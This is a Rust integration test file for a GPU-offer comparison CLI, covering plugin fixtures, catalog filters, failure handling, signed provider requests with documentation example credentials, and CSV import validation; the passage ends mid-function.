//! `gpucase plugins` and `gpucase offers` end to end: the bundled plugins on their recorded
//! fixtures (replayed over local HTTP), a real SQLite catalog, and a plugin that breaks.

#![allow(
    clippy::unwrap_used,
    reason = "helpers shared by tests: a panic there is the test failing, with its location"
)]

mod common;
use common::{exported, gpucase, ok, root, text};

use std::path::{Path, PathBuf};
use std::process::Command;

fn bundled() -> Vec<String> {
    let mut ids: Vec<String> = std::fs::read_dir(root().join("plugins"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.join("plugin.toml").exists())
        .map(|p| p.file_name().unwrap().to_string_lossy().into_owned())
        .collect();
    ids.sort();
    ids
}

#[test]
fn every_bundled_plugin_passes_its_check() {
    let ids = bundled();
    let dirs: Vec<String> = ids.iter().map(|id| format!("plugins/{id}")).collect();
    let mut args = vec!["plugins", "check"];
    args.extend(dirs.iter().map(String::as_str));
    let out = gpucase(&args);
    assert!(
        out.status.success(),
        "{}{}",
        text(&out.stdout),
        text(&out.stderr)
    );
    let ok = text(&out.stdout)
        .lines()
        .filter(|l| l.starts_with("ok\t"))
        .count();
    assert_eq!(ok, ids.len());
    // Issue 19: the catalog an EU buyer compares, fifteen providers at least.
    assert!(ids.len() >= 15, "{ids:?}");
    let listed = text(&gpucase(&["plugins", "list"]).stdout);
    assert_eq!(listed.lines().count(), ids.len(), "{listed}");
}

#[test]
fn an_offline_refresh_fills_the_catalog_from_at_least_seven_plugins() {
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("catalog.sqlite");
    let store = store.to_str().unwrap();
    let out = gpucase(&["offers", "refresh", "--offline", "--store", store]);
    assert!(
        out.status.success(),
        "{}{}",
        text(&out.stdout),
        text(&out.stderr)
    );
    let out = gpucase(&["offers", "list", "--json", "--store", store]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let offers: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
    let mut providers: Vec<&str> = offers
        .iter()
        .map(|o| o["provider"].as_str().unwrap())
        .collect();
    providers.dedup();
    assert!(providers.len() >= 7, "{providers:?}");
    for o in &offers {
        for attribute in ["isolation", "allocation"] {
            let kind = o[attribute]["kind"].as_str().unwrap();
            if kind == "unknown" {
                let reason = o[attribute]["reason"].as_str().unwrap_or_default();
                assert!(
                    !reason.trim().is_empty(),
                    "{}/{}: unknown {attribute} without a reason",
                    o["provider"],
                    o["offer_id"]
                );
            }
        }
    }
    // Filters: only EU machines with H100 memory or more, from verified or own hosts.
    let out = gpucase(&[
        "offers",
        "list",
        "--json",
        "--store",
        store,
        "--eu-only",
        "--verified-only",
        "--min-vram",
        "80",
    ]);
    let filtered: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
    assert!(!filtered.is_empty() && filtered.len() < offers.len());
    const EU_EEA: [&str; 30] = [
        "AT", "BE", "BG", "HR", "CY", "CZ", "DK", "EE", "FI", "FR", "DE", "GR", "HU", "IE", "IT",
        "LV", "LT", "LU", "MT", "NL", "PL", "PT", "RO", "SK", "SI", "ES", "SE", "IS", "LI", "NO",
    ];
    for o in &filtered {
        assert!(
            EU_EEA.contains(&o["location"]["country"].as_str().unwrap()),
            "{o}"
        );
        assert!(
            ["verified", "provider_owned"].contains(&o["host_status"].as_str().unwrap()),
            "{o}"
        );
        assert!(
            o["gpu"]["vram_gb"]
                .as_str()
                .unwrap()
                .parse::<f64>()
                .unwrap()
                >= 80.0,
            "{o}"
        );
    }
    let csv = text(&gpucase(&["offers", "list", "--csv", "--store", store]).stdout);
    assert_eq!(
        csv.lines().count(),
        offers.len() + 1,
        "one line per offer and a header"
    );
    // Issue 18: the all-upfront 12-month p5 reservation (0 USD an hour, 299,000 USD up
    // front) is listed at its effective rate, 299,000 / (12 × 730 h) = 34.1324… USD, with
    // its model and term and the price's age, its id in full; it never passes
    // --max-hourly 1.
    let listed = text(&gpucase(&["--lang", "en", "offers", "list", "--store", store]).stdout);
    let line = listed
        .lines()
        .find(|l| l.contains("3D4V8UAYEMB38GU2.6QCMYABX3D"))
        .unwrap_or_else(|| panic!("{listed}"));
    for part in [
        "US$34.13/h (upfront spread over the term)",
        "billed by the hour, reserved, 12-month term",
        "read ",
    ] {
        assert!(line.contains(part), "{part:?} in {line}");
    }
    assert!(!listed.contains('…'), "no id cut: {listed}");
    let out = gpucase(&[
        "offers",
        "list",
        "--json",
        "--max-hourly",
        "1",
        "--store",
        store,
    ]);
    let cheap: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
    assert!(
        cheap
            .iter()
            .all(|o| o["offer_id"] != "3D4V8UAYEMB38GU2.6QCMYABX3D"),
        "{cheap:?}"
    );
}

/// Issue 19: the question an EU buyer of a GDPR service asks first (EU/EEA, a VM, a whole
/// GPU passed through, 80 GB or more) has answers from five providers at least, H200
/// among them; and no reservation-only or all-upfront offer passes `--max-hourly 1` at a
/// zero rate.
#[test]
fn the_offline_catalog_answers_an_eu_buyer_from_five_providers_with_h200_among_them() {
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("catalog.sqlite");
    let store = store.to_str().unwrap();
    let out = gpucase(&["offers", "refresh", "--offline", "--store", store]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let list = |extra: &[&str]| -> Vec<serde_json::Value> {
        let mut args = vec!["offers", "list", "--json", "--store", store];
        args.extend_from_slice(extra);
        let out = gpucase(&args);
        assert!(out.status.success(), "{}", text(&out.stderr));
        serde_json::from_slice(&out.stdout).unwrap()
    };
    let eu = list(&[
        "--eu-only",
        "--isolation",
        "vm",
        "--allocation",
        "passthrough",
        "--min-vram",
        "80",
    ]);
    let providers: std::collections::BTreeSet<&str> =
        eu.iter().map(|o| o["provider"].as_str().unwrap()).collect();
    assert!(providers.len() >= 5, "{providers:?}");
    assert!(
        eu.iter()
            .any(|o| o["gpu"]["model"].as_str().unwrap().contains("H200")),
        "no H200 among {providers:?}"
    );
    for o in &eu {
        assert_eq!(o["isolation"]["kind"], "vm", "{o}");
        assert_eq!(o["allocation"]["kind"], "passthrough", "{o}");
    }
    // Issue 35: 8 GPUs joined by NVLink (SXM or NVL), and the text table's interconnect
    // column. The interconnect is read from the offer's own text, as the options read it.
    let nvlink = list(&["--gpus", "8", "--interconnect", "nvlink"]);
    assert!(!nvlink.is_empty());
    for o in &nvlink {
        assert_eq!(o["gpu"]["count"], 8, "{o}");
        let said = o["interconnect"]
            .as_str()
            .unwrap_or_default()
            .to_ascii_lowercase();
        assert!(
            ["sxm", "hgx", "nvswitch", "nvl"]
                .iter()
                .any(|w| said.contains(w)),
            "{}/{}: {said:?}",
            o["provider"],
            o["offer_id"]
        );
    }
    let all_eight = list(&["--gpus", "8"]);
    assert!(
        all_eight.len() > nvlink.len(),
        "some 8-GPU offers say no NVLink"
    );
    let out = gpucase(&[
        "offers",
        "list",
        "--gpus",
        "8",
        "--interconnect",
        "sxm",
        "--store",
        store,
    ]);
    let table = text(&out.stdout);
    assert!(
        table
            .lines()
            .any(|l| l.contains("p5.48xlarge") && l.contains(" sxm ")),
        "{table}"
    );
    let out = gpucase(&[
        "offers",
        "list",
        "--interconnect",
        "infiniband",
        "--store",
        store,
    ]);
    assert!(!out.status.success());
    assert!(
        text(&out.stderr).contains("nvlink"),
        "{}",
        text(&out.stderr)
    );
    for o in list(&["--max-hourly", "1"]) {
        let amount = o["price"]["amount"].as_str().unwrap();
        let value: rust_decimal::Decimal = amount.split(' ').next().unwrap().parse().unwrap();
        assert!(
            !value.is_zero(),
            "{}/{} passes --max-hourly 1 at {amount}",
            o["provider"],
            o["offer_id"]
        );
    }
}

#[test]
fn a_failing_plugin_keeps_its_last_snapshot_and_a_changed_price_is_observed() {
    let dir = tempfile::tempdir().unwrap();
    let plugins = dir.path().join("plugins");
    std::fs::create_dir_all(plugins.join("feed/fixtures")).unwrap();
    for f in [
        "plugin.toml",
        "main.rhai",
        "fixtures/index.toml",
        "fixtures/gpucase-offer-feed.json",
    ] {
        std::fs::copy(
            root().join("plugins/feed").join(f),
            plugins.join("feed").join(f),
        )
        .unwrap();
    }
    let store = dir.path().join("catalog.sqlite");
    let (store, plugins_dir) = (store.to_str().unwrap(), plugins.to_str().unwrap());
    let refresh_in = |lang: &str| {
        gpucase(&[
            "--lang",
            lang,
            "offers",
            "refresh",
            "--offline",
            "--dir",
            plugins_dir,
            "--store",
            store,
        ])
    };
    let refresh = || refresh_in("en");
    let count = || {
        let out = gpucase(&["offers", "list", "--json", "--store", store]);
        serde_json::from_slice::<Vec<serde_json::Value>>(&out.stdout)
            .unwrap()
            .len()
    };
    assert!(refresh().status.success());
    assert_eq!(count(), 5);

    // The seller's feed answers 500 now: the refresh fails, names the plugin, keeps the offers.
    let index = plugins.join("feed/fixtures/index.toml");
    let recorded = std::fs::read_to_string(&index).unwrap();
    std::fs::write(&index, recorded.replace("status = 200", "status = 500")).unwrap();
    let out = refresh();
    assert!(!out.status.success());
    let printed = text(&out.stdout);
    assert!(
        printed.contains("feed: failed, last snapshot kept"),
        "{printed}"
    );
    assert!(printed.contains("HTTP 500"), "{printed}");
    assert_eq!(count(), 5);
    // In German, the line and the plugin's error alike (it was English whatever --lang).
    let german = refresh_in("de");
    assert!(!german.status.success());
    let printed = text(&german.stdout);
    assert!(
        printed.contains("feed: fehlgeschlagen, der letzte Stand bleibt erhalten: "),
        "{printed}"
    );
    assert!(!printed.contains("failed"), "{printed}");
    assert!(printed.contains("500"), "{printed}");
    assert_eq!(count(), 5);

    // One price changes: one change observed, the rest unchanged.
    std::fs::write(&index, recorded).unwrap();
    let feed = plugins.join("feed/fixtures/gpucase-offer-feed.json");
    let body = std::fs::read_to_string(&feed).unwrap();
    std::fs::write(
        &feed,
        body.replacen("\"amount\": \"9.90\"", "\"amount\": \"10.90\"", 1),
    )
    .unwrap();
    let out = refresh();
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(
        text(&out.stdout).contains("feed: 0 new, 1 changed, 4 unchanged, 0 withdrawn"),
        "{}",
        text(&out.stdout)
    );

    // An offer the validation refuses is named with its reason in the language asked for.
    std::fs::write(
        &feed,
        body.replacen("\"id\": \"igpu-perf1\"", "\"id\": \"\"", 1),
    )
    .unwrap();
    let out = refresh_in("de");
    let printed = text(&out.stdout);
    assert!(out.status.success(), "{printed}{}", text(&out.stderr));
    assert!(printed.contains("1 abgelehnt"), "{printed}");
    assert!(
        printed.contains("abgelehnt: Plugin feed: Angebot 0: offer_id: darf nicht leer sein"),
        "{printed}"
    );
}

/// Issue 34: a part of a provider's data that cannot be read loses only its own offers for
/// this refresh: the Hetzner plugin without a Robot login (the endpoint answers 401) still
/// reads the public server auction; the Robot servers stored before are kept, not
/// withdrawn, and the refresh says which part was not read. What a plugin skipped is
/// counted by reason, and named with `--verbose`.
#[test]
fn a_part_not_read_keeps_its_offers_and_what_was_skipped_is_said() {
    let dir = tempfile::tempdir().unwrap();
    let plugins = dir.path().join("plugins");
    let hetzner = copy_plugin(&plugins, "hetzner");
    let store = dir.path().join("catalog.sqlite");
    let (store, plugins_dir) = (store.to_str().unwrap(), plugins.to_str().unwrap());
    let refresh = |verbose: bool| {
        let mut args = vec![
            "offers",
            "refresh",
            "--offline",
            "--dir",
            plugins_dir,
            "--store",
            store,
        ];
        if verbose {
            args.push("--verbose");
        }
        gpucase(&args)
    };
    let ids = || {
        let out = gpucase(&["offers", "list", "--json", "--store", store]);
        let mut ids: Vec<String> = serde_json::from_slice::<Vec<serde_json::Value>>(&out.stdout)
            .unwrap()
            .iter()
            .map(|o| o["offer_id"].as_str().unwrap().to_owned())
            .collect();
        ids.sort();
        ids
    };
    let out = refresh(false);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let printed = text(&out.stdout);
    // The fixtures hold three auction rows without a GPU and one Robot product without
    // one in its description (plugins/hetzner/fixtures).
    assert!(
        printed.contains("4 items skipped: 3 × no GPU; 1 × no GPU in its description"),
        "{printed}"
    );
    assert!(!printed.contains("skipped (no GPU)"), "{printed}");
    let before = ids();
    assert!(before.iter().any(|i| i.starts_with("GEX")), "{before:?}");
    assert!(
        before.iter().any(|i| i.starts_with("auction")),
        "{before:?}"
    );

    let verbose = text(&refresh(true).stdout);
    assert!(
        verbose.contains("skipped (no GPU): auction server "),
        "{verbose}"
    );

    // The Robot webservice refuses the request: that part is not read.
    let index = hetzner.join("fixtures/index.toml");
    let recorded = std::fs::read_to_string(&index).unwrap();
    std::fs::write(&index, recorded.replacen("status = 200", "status = 401", 1)).unwrap();
    let out = refresh(false);
    let printed = text(&out.stdout);
    assert!(out.status.success(), "{printed}{}", text(&out.stderr));
    assert!(
        printed.contains("0 withdrawn")
            && printed.contains("not read: Robot products (dedicated servers): ")
            && printed.contains("HTTP 401")
            && printed.contains("its offers are kept as they were, none withdrawn"),
        "{printed}"
    );
    assert_eq!(ids(), before);

    // `plugins check` says the same of the fixtures' run.
    let check = gpucase(&["plugins", "check", "--verbose", hetzner.to_str().unwrap()]);
    let printed = text(&check.stdout);
    assert!(printed.contains("not read: Robot products"), "{printed}");
    assert!(
        printed.contains("skipped (no GPU): auction server "),
        "{printed}"
    );
}

/// Copies the bundled plugin `id` (with its fixtures and expected offers) into `root`.
fn copy_plugin(root_dir: &Path, id: &str) -> PathBuf {
    let from = root().join("plugins").join(id);
    let to = root_dir.join(id);
    for sub in ["", "fixtures", "expected"] {
        std::fs::create_dir_all(to.join(sub)).unwrap();
        for entry in std::fs::read_dir(from.join(sub)).unwrap() {
            let path = entry.unwrap().path();
            if path.is_file() {
                std::fs::copy(&path, to.join(sub).join(path.file_name().unwrap())).unwrap();
            }
        }
    }
    to
}

#[test]
fn the_hetzner_plugin_sends_its_declared_secrets_as_basic_auth() {
    let dir = tempfile::tempdir().unwrap();
    let hetzner = copy_plugin(dir.path(), "hetzner");
    // The recorded product list now answers only a request with the Robot user's Basic
    // credential ("robot-user:s3cret" in base64, RFC 7617); without it, HTTP 401 as the
    // live webservice answers.
    let index = std::fs::read_to_string(hetzner.join("fixtures/index.toml")).unwrap();
    let guarded = index.replacen(
        "file = \"robot-order-server-product.json\"\n",
        "file = \"robot-order-server-product.json\"\n\
         request_headers = { authorization = \"Basic cm9ib3QtdXNlcjpzM2NyZXQ=\" }\n\n\
         [[response]]\nmethod = \"GET\"\n\
         url = \"https://robot-ws.your-server.de/order/server/product\"\n\
         status = 401\ncontent_type = \"application/json\"\n\
         response_body = '{\"error\":{\"status\":401,\"code\":\"UNAUTHORIZED\",\"message\":\"Unauthorized\"}}'\n",
        1,
    );
    assert_ne!(guarded, index, "the product list's fixture entry was found");
    std::fs::write(hetzner.join("fixtures/index.toml"), guarded).unwrap();
    let check = |user: Option<&str>| {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_gpucase"));
        cmd.args(["plugins", "check", hetzner.to_str().unwrap()])
            .env_remove("HETZNER_ROBOT_USER")
            .env_remove("HETZNER_ROBOT_PASSWORD");
        if let Some(user) = user {
            cmd.env("HETZNER_ROBOT_USER", user)
                .env("HETZNER_ROBOT_PASSWORD", "s3cret");
        }
        cmd.output().unwrap()
    };

    let signed = check(Some("robot-user"));
    assert!(
        signed.status.success(),
        "{}{}",
        text(&signed.stdout),
        text(&signed.stderr)
    );

    let anonymous = check(None);
    assert!(!anonymous.status.success());
    let said = text(&anonymous.stdout) + &text(&anonymous.stderr);
    assert!(
        said.contains("HTTP 401: set HETZNER_ROBOT_USER and HETZNER_ROBOT_PASSWORD"),
        "{said}"
    );

    let wrong = check(Some("someone-else"));
    assert!(!wrong.status.success());
    let said = text(&wrong.stdout) + &text(&wrong.stderr);
    assert!(
        said.contains("the Robot webservice user was refused"),
        "{said}"
    );
    assert!(
        !said.contains("s3cret"),
        "a password is never printed: {said}"
    );
}

#[test]
fn the_aws_plugin_signs_its_requests_with_the_declared_credentials() {
    const SECRET: &str = "wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY";
    let dir = tempfile::tempdir().unwrap();
    let aws = copy_plugin(dir.path(), "aws");
    // The first GetProducts page now answers only the request SigV4-signed with the
    // example credentials of AWS's documentation (AKIDEXAMPLE and the secret above) at the
    // fixtures' day, 2026-11-20T00:00:00Z (service pricing, region us-east-1; signed
    // headers content-type, host, x-amz-date, x-amz-target); any other page-1 request gets
    // HTTP 403, as the live API answers an unsigned or badly signed one.
    //
    // The signature below was produced by gpucase's own signer. That is acceptable only
    // because the unit tests of gpucase_plugins::sigv4 pin the signer to AWS's published
    // Signature V4 test-suite vectors and the IAM ListUsers example; it was also checked
    // against botocore 1.43.11's SigV4Auth for the same request, which gives the same value.
    let authorization = "AWS4-HMAC-SHA256 \
        Credential=AKIDEXAMPLE/20261120/us-east-1/pricing/aws4_request, \
        SignedHeaders=content-type;host;x-amz-date;x-amz-target, \
        Signature=3cceee5dc18029a78784d8db1994acd2ddbc283314012502d45b6e046d84ec2b";
    let index = std::fs::read_to_string(aws.join("fixtures/index.toml")).unwrap();
    let page1 = "file = \"get-products-p5-page1.json\"\n";
    let at = index.find(page1).expect("the first page's fixture entry");
    let body_line = index[at..]
        .lines()
        .find(|l| l.starts_with("body = "))
        .unwrap()
        .to_owned();
    let mut guarded = index.replacen(
        page1,
        &format!("{page1}request_headers = {{ authorization = \"{authorization}\" }}\n"),
        1,
    );
    guarded.push_str(&format!(
        "\n[[response]]\nmethod = \"POST\"\nurl = \"https://api.pricing.us-east-1.amazonaws.com/\"\n\
         status = 403\ncontent_type = \"application/x-amz-json-1.1\"\n\
         response_body = '{{\"__type\":\"AccessDeniedException\",\"message\":\"refused by the test fixture\"}}'\n\
         {body_line}\n"
    ));
    std::fs::write(aws.join("fixtures/index.toml"), guarded).unwrap();
    let check = |key_id: Option<&str>| {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_gpucase"));
        cmd.args(["plugins", "check", aws.to_str().unwrap()])
            .env_remove("AWS_ACCESS_KEY_ID")
            .env_remove("AWS_SECRET_ACCESS_KEY")
            .env_remove("AWS_SESSION_TOKEN");
        if let Some(key_id) = key_id {
            cmd.env("AWS_ACCESS_KEY_ID", key_id)
                .env("AWS_SECRET_ACCESS_KEY", SECRET);
        }
        let out = cmd.output().unwrap();
        let said = text(&out.stdout) + &text(&out.stderr);
        assert!(
            !said.contains(SECRET),
            "a secret key is never printed: {said}"
        );
        (out.status.success(), said)
    };

    let (ok, said) = check(Some("AKIDEXAMPLE"));
    assert!(ok, "{said}");
    assert!(said.contains("ok\taws\t15 offers"), "{said}");

    let (ok, said) = check(None);
    assert!(!ok);
    assert!(
        said.contains("HTTP 403 from https://api.pricing.us-east-1.amazonaws.com/: the Price List API needs SigV4-signed requests: set AWS_ACCESS_KEY_ID and AWS_SECRET_ACCESS_KEY"),
        "{said}"
    );

    let (ok, said) = check(Some("AKIDSOMEONEELSE"));
    assert!(!ok);
    assert!(said.contains("the signed request was refused"), "{said}");
}

#[test]
fn manual_offers_import_from_csv_and_a_bad_row_refuses_the_whole_file() {
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("catalog.sqlite");
    let store = store.to_str().unwrap();
    let list = || {
        let out = gpucase(&["offers", "list", "--json", "--store", store]);
        assert!(out.status.success(), "{}", text(&out.stderr));
        serde_json::from_slice::<Vec<serde_json::Value>>(&out.stdout).unwrap()
    };

    let out = gpucase(&[
        "offers",
        "import",
        "examples/manual-offers.csv",
        "--store",
        store,
    ]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(
        text(&out.stdout).contains("3 manual offers read: 3 new, 0 changed, 0 unchanged"),
        "{}",
        text(&out.stdout)
    );
    let offers = list();
    assert_eq!(offers.len(), 3);
    let by_id = |id: &str| offers.iter().find(|o| o["offer_id"] == id).unwrap().clone();
    let h200 = by_id("q-2026-114-h200");
    assert_eq!(h200["provider"], "manual");
    assert_eq!(h200["gpu"]["model"], "H200 SXM 141GB");
    assert_eq!(h200["price"]["amount"], "14900 EUR");
    assert_eq!(h200["price"]["period"], "month");
    assert_eq!(h200["price"]["model"], "reserved");
    assert_eq!(h200["price"]["term_months"], 12);
    assert_eq!(h200["fetched_at"], "2026-11-20T00:00:00Z");
    assert_eq!(
        h200["source_url"],
        "Quote Q-2026-114, Example Colo Cloud GmbH (PDF by mail)"
    );
    let kinds: Vec<&str> = h200["charges"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["kind"].as_str().unwrap())
        .collect();
    assert_eq!(kinds, ["storage", "egress", "ipv4", "setup"]);
    let l40s = by_id("q-2026-114-l40s");
    assert_eq!(l40s["allocation"]["kind"], "vgpu");
    assert_eq!(l40s["allocation"]["profile"], "L40S-24Q");
    assert_eq!(l40s["allocation"]["share"], "0.5");
    // What the file leaves empty stays unknown, with the line that left it so.
    let spot = by_id("broker-h100-spot");
    assert_eq!(spot["isolation"]["kind"], "unknown");
    assert_eq!(
        spot["isolation"]["reason"],
        "isolation not stated in examples/manual-offers.csv line 4"
    );
    assert_eq!(spot["host_status"], "unknown");

    // A file with one bad row: refused whole, naming line and column; nothing changes.
    let bad = dir.path().join("bad.csv");
    let csv = std::fs::read_to_string(root().join("examples/manual-offers.csv")).unwrap();
    std::fs::write(
        &bad,
        csv.replace("14900,EUR", "14500,EUR")
            .replace("L40S,1,48", "L40S,one,48"),
    )
    .unwrap();
    let out = gpucase(&["offers", "import", bad.to_str().unwrap(), "--store", store]);
    assert!(!out.status.success());
    let said = text(&out.stderr);
    assert!(
        said.contains("bad.csv: line 3, column gpus: \"one\" is not a whole number"),
        "{said}"
    );
    assert_eq!(list(), offers, "the catalog is as it was");
    // Issue 18: the same file with CRLF line ends, as a spreadsheet on Windows saves it,
    // names the same line.
    let crlf = dir.path().join("crlf.csv");
    let bad_text = std::fs::read_to_string(&bad).unwrap();
    std::fs::write(&crlf, bad_text.replace('\n', "\r\n")).unwrap();
    let out = gpucase(&["offers", "import", crlf.to_str().unwrap(), "--store", store]);
    let said = text(&out.stderr);
    assert!(
        said.contains("crlf.csv: line 3, column gpus: \"one\" is not a whole number"),
        "{said}"
    );
    assert_eq!(list(), offers, "the catalog is as it was");

    for (content, expected) in [
        (
            "offer_id,source,quoted_on,gpu,gpus,price,period,pricing_model,colour\n",
            "line 1, column colour: unknown column",
        ),
        (
            "offer_id,source,gpu,gpus,price,period,pricing_model\n",
            "line 1, column quoted_on: this column is required",
        ),
        // Issue 33: a column twice imported silently, the later cell winning.
        (
            "offer_id,source,quoted_on,gpu,gpus,price,period,pricing_model,price\nx,https://a.example/,2026-11-20,H100,1,2.5 EUR,hour,on_demand,0.5 EUR\n",
            "line 1, column price: this column is in the header twice (columns 6 and 9); keep one",
        ),
        (
            "offer_id,source,quoted_on,gpu,gpus,price,period,pricing_model\nx,https://a.example/,2026-11-20,H100,1,2.5 EUR,week,on_demand\n",
            "line 2, column period: unknown variant `week`",
        ),
        (
            "offer_id,source,quoted_on,gpu,gpus,price,period,pricing_model\nx,https://a.example/,2026-11-20,H100,1,\"1,234.50 EUR\",hour,on_demand\n",
            "line 2, column price: \"1,234.50\" is not a plain decimal number",
        ),
        (
            "offer_id,source,quoted_on,gpu,gpus,price,period,pricing_model,allocation,allocation_share\nx,https://a.example/,2026-11-20,H100,1,2.5 EUR,hour,on_demand,mig,1.5\n",
            "line 2, column allocation_share: share 1.5 must be above 0 and at most 1",
        ),
        (
            "offer_id,source,quoted_on,gpu,gpus,price,period,pricing_model\nx,https://a.example/,20.11.2026,H100,1,2.5 EUR,hour,on_demand\n",
            "line 2, column quoted_on: \"20.11.2026\" is not a date",
        ),
    ] {
        std::fs::write(&bad, content).unwrap();
        let out = gpucase(&["offers", "import", bad.to_str().unwrap(), "--store", store]);
        assert!(!out.status.success(), "{content}");
        let said = text(&out.stderr);
        assert!(said.contains(expected), "{content}\n{said}");
    }
    // Issue 33: a CSV that is no UTF-8 text (Latin-1 "ü") was called "a case file is JSON".
    std::fs::write(
        &bad,
        b"offer_id,source,quoted_on,gpu,gpus,price,period,pricing_model\nx,https://a.example/Z\xfcrich,2026-11-20,H100,1,2.5 EUR,hour,on_demand\n",
    )
    .unwrap();
    let out = gpucase(&["offers", "import", bad.to_str().unwrap(), "--store", store]);
    let said = text(&out.stderr);
    assert!(
        said.contains("not UTF-8 text") && said.contains("a CSV file is UTF-8 text"),
        "{said}"
    );
    assert!(!said.contains("case file"), "{said}");
    assert_eq!(list(), offers, "the catalog is as it was");
    assert_eq!(list(), offers, "the catalog is as it was");

    // A spreadsheet in a decimal-comma locale writes semicolons; a changed price is a new
    // observation of the same offer.
    let semicolon = dir.path().join("semicolon.csv");
    std::fs::write(
        &semicolon,
        "\u{feff}offer_id;source;quoted_on;gpu;gpus;price;currency;period;pricing_model\r\n\
         q-2026-114-l40s;Quote Q-2026-114, revised;2026-11-27;L40S;1;1,05;EUR;hour;on_demand\r\n",
    )
    .unwrap();
    let out = gpucase(&[
        "offers",
        "import",
        semicolon.to_str().unwrap(),
        "--store",
        store,
    ]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(
        text(&out.stdout).contains("1 manual offer read: 0 new, 1 changed, 2 unchanged"),
        "{}",
        text(&out.stdout)
    );
    let revised = list();
    let l40s = revised
        .iter()
        .find(|o| o["offer_id"] == "q-2026-114-l40s")
        .unwrap();
    assert_eq!(l40s["price"]["amount"], "1.05 EUR");

    let out = gpucase(&["offers", "remove", "broker-h100-spot", "--store", store]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(list().len(), 2);
    let out = gpucase(&["offers", "remove", "broker-h100-spot", "--store", store]);
    assert!(text(&out.stderr).contains("no manual offer \"broker-h100-spot\""));
}

#[test]
fn own_server_quotes_from_csv_become_the_next_version_of_a_case() {
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("cases.sqlite");
    let store = store.to_str().unwrap();
    let out = gpucase(&[
        "case",
        "import",
        "examples/enterprise-assistant.gpucase",
        "--store",
        store,
    ]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let out = gpucase(&[
        "case",
        "add-quotes",
        "enterprise-assistant",
        "examples/own-quotes.csv",
        "--store",
        store,
    ]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(
        text(&out.stdout)
            .contains("version 2: 2 quotes added (own-hgx-h200-vendor-b, own-4x-l40s), 0 replaced"),
        "{}",
        text(&out.stdout)
    );
    let file = dir.path().join("v2.gpucase");
    let out = gpucase(&[
        "case",
        "export",
        "enterprise-assistant",
        "-o",
        file.to_str().unwrap(),
        "--store",
        store,
    ]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let scenario: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&file).unwrap()).unwrap();
    // The export is a scenario file (docs/scenario-files.md); the case is its `case`.
    let own = scenario["case"]["own"].as_array().unwrap();
    assert_eq!(own.len(), 3);
    assert_eq!(own[1]["purchase"], "289500 EUR");
    assert_eq!(own[1]["pue"], "1.35");
    assert_eq!(own[2]["service_life_years"], 4);
    // The new quotes are costed like any other own option.
    let out = gpucase(&["tco", file.to_str().unwrap(), "--json"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let tco = text(&out.stdout);
    assert!(tco.contains("own-hgx-h200-vendor-b") && tco.contains("own-4x-l40s"));

    // A bad quote file leaves the case at version 2.
    let bad = dir.path().join("bad-quotes.csv");
    let csv = std::fs::read_to_string(root().join("examples/own-quotes.csv")).unwrap();
    std::fs::write(&bad, csv.replace(",1.35,", ",-1.35,")).unwrap();
    let out = gpucase(&[
        "case",
        "add-quotes",
        "enterprise-assistant",
        bad.to_str().unwrap(),
        "--store",
        store,
    ]);
    assert!(!out.status.success());
    let said = text(&out.stderr);
    assert!(said.contains("line 2, column pue"), "{said}");
    let out = gpucase(&["case", "history", "enterprise-assistant", "--store", store]);
    assert_eq!(text(&out.stdout).lines().count(), 2);
}

/// A quote with free slots in the CSV form: the server as quoted with 4 cards, 8 slots and
/// the price, power and residual value of one more card. On the example's 8-GPU peak it is
/// one server with 4 cards added, 480,746.24 EUR over five years (the figures of
/// examples/h200-nvl-grows.gpucase, worked out in crates/core/tests/staged_purchase.rs);
/// slots without the card's price are refused by line and column.
#[test]
fn a_quote_with_free_slots_from_csv_fills_them_before_a_second_server() {
    let dir = tempfile::tempdir().unwrap();
    let header = "id,label,gpus,purchase,licences_per_year,power_kw,pue,kwh_price,colocation_per_month,support_per_year,operating_hours_per_month,operating_hour_rate,service_life_years,residual_value,source,currency,slots,card_price,power_kw_per_card,residual_value_per_card";
    let row = "h200-nvl,H200 NVL 4 of 8 cards,4,160000,0,3.2,1.4,0.22,900,6000,12,85,5,16000,Vendor D quote,EUR,8,32000,0.6,3000";
    let tco = quotes_into_example(dir.path(), &format!("{header}\n{row}\n"));
    let own = option_of(&tco, "h200-nvl");
    assert_eq!(decimal(&own["total_cost"]), "480746.24".parse().unwrap());
    assert_eq!(own["service_life"]["servers"], 1);
    assert_eq!(own["label"], "H200 NVL 4 of 8 cards + 4 cards");

    let said = quotes_refused(
        dir.path(),
        &format!("{header}\n{}\n", row.replace(",32000,", ",,")),
    );
    assert!(said.contains("line 2, column card_price"), "{said}");
}

/// The own side's optional columns (issue 32): transit per server per month, and what the
/// servers are worth at the horizon's end, a depreciation period or a resale estimate,
/// never both. The example's server with 400 EUR a month of transit and a resale at 40 %
/// costs, over 5 years: the example's 789,287.60 EUR, less its book value at the end of
/// its life (the 25,000 EUR residual), plus 400 × 60 = 24,000 of transit, less the 0.40 ×
/// 300,000 = 120,000 it fetches: 718,287.60 EUR.
#[test]
fn quotes_from_csv_state_transit_and_the_value_at_the_horizon() {
    let dir = tempfile::tempdir().unwrap();
